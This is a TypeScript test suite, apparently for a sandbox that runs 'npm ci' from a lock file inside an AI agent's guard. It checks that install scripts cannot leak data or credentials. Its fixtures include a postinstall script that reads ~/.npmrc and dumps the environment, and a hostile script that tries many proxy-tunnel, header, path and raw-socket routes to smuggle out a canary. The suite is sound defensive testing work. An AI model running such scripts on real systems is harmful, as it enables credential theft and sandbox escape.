// Installs by a lock file, held: npm brings from a played registry what it names, scripts run, and nothing of what a hostile one tries gets out.
import { createHash } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";
import type { Server } from "node:https";
import { join } from "node:path";
import process from "node:process";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { READING_REGISTRIES } from "#base/registry-hosts.ts";
import type { Effect } from "#guard/vocabulary/effect.ts";
import { WHY_NOT_HELD } from "../../../../holding.ts";
import { NPM, type Seen, startRegistry, testAuthority } from "../../gateway/gateway-stand.ts";
import { type Stored, tarball } from "../../gateway/stored-archives.ts";
import { heldMachine, type HeldMachine, type HeldRun } from "../held.ts";

const OWN = "npm.acme.test";
const TOKEN = "token-of-the-person";
const NAMES = { [NPM]: "203.0.113.7", [OWN]: "203.0.113.8", "other.test": "203.0.113.9" };

/** A package with a script that runs when it is installed. */
function packed(name: string, script: string): Buffer {
  const manifest = { name, version: "1.0.0", scripts: { postinstall: "node post.js" } };
  const files: readonly Stored[] = [
    { name: "package/package.json", text: JSON.stringify(manifest) },
    { name: "package/post.js", text: script },
  ];
  return tarball(files);
}

/** Says what it did in a file of the project. */
const HONEST = `require("node:fs").writeFileSync(process.env.INIT_CWD + "/built.txt", "built");`;
/** Keeps what it sees of the person's login. */
const LOOKING = `const fs = require("node:fs");
let file = "";
try { file = fs.readFileSync(process.env.HOME + "/.npmrc", "utf8"); } catch (error) { file = error.code; }
fs.writeFileSync(process.env.INIT_CWD + "/seen.json", JSON.stringify({ env: process.env, file }));`;

/** Tries every way out that it can think of, each with the canary in it. */
const hostile = (canary: string, port: number): string => `
const net = require("node:net"), tls = require("node:tls"), http = require("node:http"), fs = require("node:fs");
const canary = ${JSON.stringify(canary)}, host = ${JSON.stringify(NPM)}, file = "/evil/-/evil-1.0.0.tgz";
const proxy = new URL(process.env.HTTPS_PROXY);
const login = "Basic " + Buffer.from(proxy.username + ":" + proxy.password).toString("base64");
const tried = {};
const said = (socket, bytes) => new Promise((resolve) => {
  let text = "";
  socket.setTimeout(30000, () => socket.destroy());
  socket.on("data", (part) => { text += part.toString("latin1"); }).on("error", () => resolve(text || "error")).on("close", () => resolve(text));
  if (bytes !== undefined) socket.write(bytes);
});
const status = (text) => /^HTTP\\/1.1 (\\d+)/.exec(text)?.[1] ?? text.slice(0, 20);
const connectTo = (target, authorization = login) => new Promise((resolve) => {
  const socket = net.connect(Number(proxy.port), "127.0.0.1");
  socket.on("error", () => resolve({ head: "error" }));
  socket.once("data", (part) => resolve({ socket, head: part.toString("latin1") }));
  socket.write("CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target + "\\r\\nProxy-Authorization: " + authorization + "\\r\\n\\r\\n");
});
const inside = async (lines, body = "", servername = host) => {
  const { socket, head } = await connectTo(host + ":443");
  if (!head.includes(" 200 ")) return head;
  const inner = tls.connect({ socket, servername });
  return said(inner, lines.join("\\r\\n") + "\\r\\nConnection: close\\r\\n\\r\\n" + body);
};
const own = "Host: " + host;
(async () => {
  const ways = {
    post: ["POST " + file + " HTTP/1.1", own, "Content-Length: " + canary.length],
    put: ["PUT /evil HTTP/1.1", own, "Content-Length: " + canary.length],
    body: ["GET " + file + " HTTP/1.1", own, "Content-Length: " + canary.length],
    chunked: ["GET " + file + " HTTP/1.1", own, "Transfer-Encoding: chunked"],
    path: ["GET /" + canary + " HTTP/1.1", own],
    file: ["GET /evil/-/" + canary + "-1.0.0.tgz HTTP/1.1", own],
    query: ["GET " + file + "?q=" + canary + " HTTP/1.1", own],
    fragment: ["GET " + file + "#" + canary + " HTTP/1.1", own],
    climbing: ["GET /evil/../" + canary + " HTTP/1.1", own],
    encoded: ["GET /evil%2f-%2fevil-1.0.0.tgz HTTP/1.1", own],
    other: ["GET /left-pad HTTP/1.1", own],
    search: ["GET /-/v1/search?text=" + canary + " HTTP/1.1", own],
    whole: ["GET https://" + host + file + "?" + canary + " HTTP/1.1", own],
    elsewhere: ["GET " + file + " HTTP/1.1", "Host: " + canary + ".other.test"],
    twice: ["GET " + file + " HTTP/1.1", own, "Host: other.test"],
    upgrade: ["GET " + file + " HTTP/1.1", own, "Upgrade: websocket"],
    tunnel: ["CONNECT other.test:443 HTTP/1.1", own],
    options: ["OPTIONS " + file + " HTTP/1.1", own],
  };
  for (const [name, lines] of Object.entries(ways)) tried[name] = status(await inside(lines, canary));
  // It passes, and nothing of these headers does.
  tried.headers = status(await inside(["GET " + file + " HTTP/1.1", own, "X-A: " + canary, "Cookie: a=" + canary,
    "User-Agent: " + canary, "If-None-Match: \\"" + canary + "\\"", "Authorization: Bearer " + canary, "Accept: " + canary,
    "Range: bytes=1-2", "Accept-Encoding: " + canary, "Referer: https://" + canary + "/"]));
  tried.named = status(await inside(["GET " + file + " HTTP/1.1", own], "", "other.test"));
  for (const target of ["other.test:443", canary + ".test:443", host + ":80", "127.0.0.1:${port}", "[::1]:${port}", "203.0.113.7:443"])
    tried["connect " + target.replace(canary, "x")] = status((await connectTo(target)).head);
  tried["no login"] = status((await connectTo(host + ":443", "Basic eDp5")).head);
  tried.plain = status(await said(net.connect(Number(proxy.port), "127.0.0.1"),
    "POST http://" + host + ":443/" + canary + " HTTP/1.1\\r\\nHost: " + host + "\\r\\nProxy-Authorization: " + login + "\\r\\nContent-Length: 0\\r\\n\\r\\n"));
  for (const address of ["127.0.0.1", "203.0.113.7"])
    tried["raw " + address] = await said(net.connect(${port}, address, function () { this.write(canary); }));
  const many = [];
  for (let at = 0; at < 12; at += 1) many.push(status(await inside(["GET /evil HTTP/1.1", own])));
  tried.often = many.at(-1);
  fs.writeFileSync(process.env.INIT_CWD + "/tried.json", JSON.stringify(tried));
})();`;

type Played = {
  readonly name: string;
  readonly host: string;
  readonly path: string;
  readonly file: Buffer;
};

describe("an install by a lock file", () => {
  let machine: HeldMachine;
  let server: Server;
  let answering: (
    url: string,
  ) => { readonly file: Buffer } | { readonly location: string } | undefined;
  const seen: Seen[] = [];

  beforeAll(async () => {
    if (WHY_NOT_HELD !== undefined) return;
    const authority = testAuthority([...READING_REGISTRIES, OWN, "other.test"]);
    const started = await startRegistry(authority, (request, response) => {
      const parts: Buffer[] = [];
      request.on("data", (part: Buffer) => parts.push(part));
      request.on("end", () => {
        const { headers, method, url } = request;
        const body = Buffer.concat(parts).toString();
        seen.push({ host: headers.host, method, url, headers, body });
        const found = answering(`${headers.host}${url}`);
        if (found === undefined) response.writeHead(404).end("{}");
        else if ("location" in found) response.writeHead(302, found).end();
        else response.end(found.file);
      });
    });
    server = started.server;
    const registry = { port: started.port, authority: authority.certificate };
    machine = await heldMachine({ names: NAMES, registry });
    machine.file(".claude/none", "");
    machine.file(
      join(machine.home, ".npmrc"),
      `@acme:registry=https://${OWN}/base/\n//${OWN}/base/:_authToken=${TOKEN}\n`,
    );
  });
  afterAll(async () => {
    await machine?.remove();
    server?.closeAllConnections();
    server?.close();
  });
  beforeEach((ctx) => {
    const why = WHY_NOT_HELD ?? machine.trouble;
    if (why !== undefined) ctx.skip(why);
    seen.length = 0;
    answering = () => undefined;
  });

  const port = (): number => {
    const address = server.address();
    return typeof address === "object" && address !== null ? address.port : 0;
  };

  /** A project of these packages, and what the judge says of an install in it. */
  function project(folder: string, packages: readonly Played[], change = (text: string) => text) {
    const packed = packages.map(({ name, host, path, file }) => {
      const integrity = `sha512-${createHash("sha512").update(file).digest("base64")}`;
      const resolved = `https://${host}${path}`;
      const entry = { version: "1.0.0", resolved, integrity, hasInstallScript: true };
      return [`node_modules/${name}`, entry] as const;
    });
    const dependencies = Object.fromEntries(packages.map(({ name }) => [name, "1.0.0"]));
    const root = { name: "shop", version: "1.0.0", dependencies };
    const lock = JSON.stringify({
      name: "shop",
      version: "1.0.0",
      lockfileVersion: 3,
      requires: true,
      packages: { "": root, ...Object.fromEntries(packed) },
    });
    const path = machine.file(join(machine.project, folder, "package-lock.json"), change(lock));
    machine.file(join(machine.project, folder, "package.json"), JSON.stringify(root));
    answering = (url) => packages.find((one) => url === one.host + one.path);
    const digest = createHash("sha256").update(lock).digest("hex");
    const install: Effect = {
      kind: "install",
      manager: "npm",
      packages: [],
      runsScripts: true,
      declared: { files: [path], exact: { path, format: "npm", digest } },
      via: ["npm"],
      at: undefined,
    };
    return { cwd: join(machine.project, folder), effects: [install] };
  }
  const run = (asked: ReturnType<typeof project>): Promise<HeldRun> =>
    machine.run({
      isRead: true,
      ...asked,
      command: "npm ci --foreground-scripts",
      programs: ["npm"],
      timeoutMs: 120_000,
      environment: { PATH: process.env["PATH"] ?? "" },
    });
  /** WHY another name in each test: what was brought stays in the session's cache. */
  const of = (name: string, script: string, host = NPM, base = ""): Played => {
    const file = packed(name, script);
    const path = `${base}/${name}/-/${name.replace(/^.*\//, "")}-1.0.0.tgz`;
    return { name, host, path, file };
  };

  test("brings what it names, and runs the scripts of that", async () => {
    const asked = project("honest", [of("tiny", HONEST)]);
    const { kind, status, complained, said, refusedHosts } = await run(asked);
    expect([kind, status, complained]).toEqual(["held", 0, expect.any(String)]);
    expect(said).toContain("added 1 package");
    expect(readFileSync(join(asked.cwd, "built.txt"), "utf8")).toBe("built");
    expect(seen.map(({ method, url }) => `${method} ${url}`)).toEqual([
      "GET /tiny/-/tiny-1.0.0.tgz",
    ]);
    expect(refusedHosts).toEqual([]);
  });

  test("lets a script send nothing, whatever it tries", async () => {
    const asked = project("hostile", [of("evil", hostile(machine.canary, port()))]);
    const { status, misread, complained } = await run(asked);
    expect([status, complained]).toEqual([0, expect.any(String)]);
    const tried = JSON.parse(readFileSync(join(asked.cwd, "tried.json"), "utf8")) as object;
    const { headers, named, ...rest } = tried as Readonly<Record<string, string>>;
    const others = Object.entries(rest).filter(
      ([name, one]) => !name.startsWith("raw ") && !/^40[03]$/.test(one),
    );
    expect(Object.keys(rest).length).toBeGreaterThan(25);
    expect(others).toEqual([]);
    expect([headers, named]).toEqual(["200", "error"]);
    expect([rest["raw 127.0.0.1"], rest["raw 203.0.113.7"]]).toEqual(["error", "error"]);
    expect(JSON.stringify(seen)).not.toContain(machine.canary);
    const FILES = ["GET /evil/-/evil-1.0.0.tgz ", "GET /evil "];
    expect(
      seen.filter(({ method, url, body }) => !FILES.includes(`${method} ${url} ${body}`)),
    ).toEqual([]);
    expect(new Set(seen.flatMap(({ headers }) => Object.keys(headers)))).toEqual(
      new Set(["host", "user-agent", "accept", "accept-encoding", "connection"]),
    );
    expect(misread).toContain(NPM);
  });

  test("logs in at the person's own registry outside, and nothing inside sees how", async () => {
    const asked = project("private", [of("@acme/lib", LOOKING, OWN, "/base"), of("small", HONEST)]);
    const { status, said, complained } = await run(asked);
    expect([status, complained]).toEqual([0, expect.any(String)]);
    const logins = seen.map(({ host, headers }) => [host, headers.authorization]);
    expect(new Map(logins as [string, string][])).toEqual(
      new Map([
        [OWN, `Bearer ${TOKEN}`],
        [NPM, undefined],
      ]),
    );
    expect(readFileSync(join(asked.cwd, "seen.json"), "utf8") + said).not.toContain(TOKEN);
  });

  test("follows no redirect to what the lock file does not name, nor with the login", async () => {
    const lib = of("@acme/lib", HONEST, OWN, "/base");
    const tiny = of("short", HONEST);
    const asked = project("moved", [lib, tiny]);
    const found = answering;
    const moves: Readonly<Record<string, string>> = {
      [OWN + lib.path]: `https://${NPM}/@acme/lib/-/lib-9.0.0.tgz`,
      [NPM + tiny.path]: `https://other.test${tiny.path}`,
    };
    answering = (url) => (moves[url] === undefined ? found(url) : { location: moves[url] });
    const { status } = await run(asked);
    expect(status).not.toBe(0);
    expect(existsSync(join(asked.cwd, "built.txt"))).toBe(false);
    expect(seen.length).toBeGreaterThan(0);
    expect(seen.filter(({ host, url }) => moves[`${host}${url}`] === undefined)).toEqual([]);
  });

  test("is not held where the lock file is another one than was judged", async () => {
    const asked = project("swapped", [of("tiny", HONEST)], (text) =>
      text.replace("tiny-1.0.0.tgz", `${machine.canary}.tgz`),
    );
    expect(await run(asked)).toMatchObject({
      kind: "not-held",
      why: expect.stringContaining("another one than when it was judged"),
    });
    expect(seen).toEqual([]);
  });
});
